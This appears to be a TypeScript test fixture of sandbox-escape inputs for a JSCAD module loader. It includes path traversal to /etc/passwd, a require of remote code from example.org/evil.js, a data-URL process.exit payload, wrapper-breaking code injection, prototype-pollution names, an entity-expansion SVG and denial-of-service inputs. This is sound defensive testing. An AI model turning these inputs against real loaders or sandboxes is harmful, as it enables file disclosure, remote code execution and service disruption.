// SPDX-FileCopyrightText: 2026 fabcommons contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { attack, main, type Attack } from '../attack.ts';

const required = (request: string): string =>
  `require(${JSON.stringify(request)})\n${main('return cube()')}`;

/** Files and packages that are not the design's own. */
export const modules: readonly Attack[] = [
  attack('a file above the root', 'evaluate-module-outside', required('../../../etc/passwd')),
  attack(
    'a file above the root by detours',
    'evaluate-module-outside',
    required('./a/b/../../.././../etc/passwd'),
  ),
  attack('an absolute file', 'evaluate-module-missing', required('/etc/passwd')),
  attack('a file by address', 'evaluate-module-url', required('file:///etc/passwd')),
  attack('code by address', 'evaluate-module-url', required('https://example.org/evil.js')),
  attack(
    'code in the address itself',
    'evaluate-module-url',
    required('data:text/javascript,process.exit()'),
  ),
  attack('a drive of Windows', 'evaluate-module-missing', required('C:\\Windows\\win.ini')),
  attack('backslashes', 'evaluate-module-missing', required('..\\..\\etc\\passwd')),
  attack('a module of Node by scheme', 'evaluate-module-system', required('node:fs/promises')),
  attack('a name with a null byte', 'harmless', required('./main.js\u0000.json')),
  attack('the name __proto__', 'evaluate-module-missing', required('__proto__')),
  attack('the name constructor', 'evaluate-module-missing', required('constructor/prototype')),
  attack(
    'a package of the sandbox itself',
    'evaluate-module-missing',
    required('fabcommons/boot.js'),
  ),
  attack(
    'a way into the library by dots',
    'evaluate-module-missing',
    required('@jscad/modeling/../../fabcommons/boot.js'),
  ),
  attack('a name of 10 MB', 'evaluate-exception', `require("x/".repeat(5e6))`),
  attack(
    'a name that is an object',
    'evaluate-module-missing',
    `require({ toString: () => "./nowhere" })`,
  ),
  attack('a module that requires itself', 'harmless', {
    'main.js': `require("./main.js")\n${main('return cube()')}`,
  }),
  attack(
    'code that closes its wrapper',
    'evaluate-exception',
    '})(); throw new Error("out"); (function () {',
  ),
  attack(
    'code that ends its wrapper and waits there',
    'evaluate-timeout',
    { 'main.js': '}); for (;;) {} (function () {' },
    { timeMs: 300 },
  ),
  attack(
    'a chain of a thousand modules',
    'evaluate-stack',
    Object.fromEntries(
      Array.from({ length: 3000 }, (_, i) => [
        i === 0 ? 'main.js' : `m${i}.js`,
        `module.exports.main = require("./m${i + 1}.js")`,
      ]),
    ),
  ),
  attack('a JSON file nested too deep', 'evaluate-stack', {
    'main.js': 'module.exports.main = () => require("./a.json")',
    'a.json': '['.repeat(1e6),
  }),
  attack(
    'an STL that says it has four billion triangles',
    'evaluate-timeout',
    {
      'main.js': 'const s = require("./a.stl")\nmodule.exports.main = () => s',
      'a.stl': new Uint8Array(84).fill(255),
    },
    { timeMs: 300 },
  ),
  attack('a 3MF that is no archive', 'evaluate-exception', {
    'main.js': 'const s = require("./a.3mf")\nmodule.exports.main = () => s',
    'a.3mf': new Uint8Array(1000).fill(80),
  }),
  attack('an SVG of entities', 'evaluate-empty', {
    'main.js': 'const s = require("./a.svg")\nmodule.exports.main = () => s',
    'a.svg': '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;&b;</svg>',
  }),
  attack('30 MB of code', 'harmless', {
    'main.js': `// ${'x'.repeat(30_000_000)}\n${main('return cube()')}`,
  }),
  attack('package.json that leads out', 'evaluate-module-missing', {
    'main.js': 'require("p")',
    'node_modules/p/package.json': '{"main": "../../../../etc/passwd"}',
  }),
  attack('files that are called as parts of every object', 'harmless', {
    'main.js':
      'const size = require("./__proto__") + require("./constructor") + require("toString") + require("./a.json").x\nmodule.exports.main = () => require("@jscad/modeling").primitives.cube({ size })',
    '__proto__.js': 'module.exports = 1',
    'constructor.js': 'module.exports = 2',
    'node_modules/toString/index.js': 'module.exports = 3',
    'a.json': '{"__proto__": {"x": 9}, "x": 1}',
  }),
  attack('a package.json nested a hundred thousand deep', 'evaluate-module-missing', {
    'main.js': 'require("p")',
    'node_modules/p/package.json': `{"exports":${'{"default":'.repeat(1e5)}1${'}'.repeat(1e5)}}`,
  }),
  attack(
    'an ES module nested too deep',
    'evaluate-stack',
    `import a from "@jscad/modeling"\nexport const main = () => ${'('.repeat(1e5)}`,
  ),
];
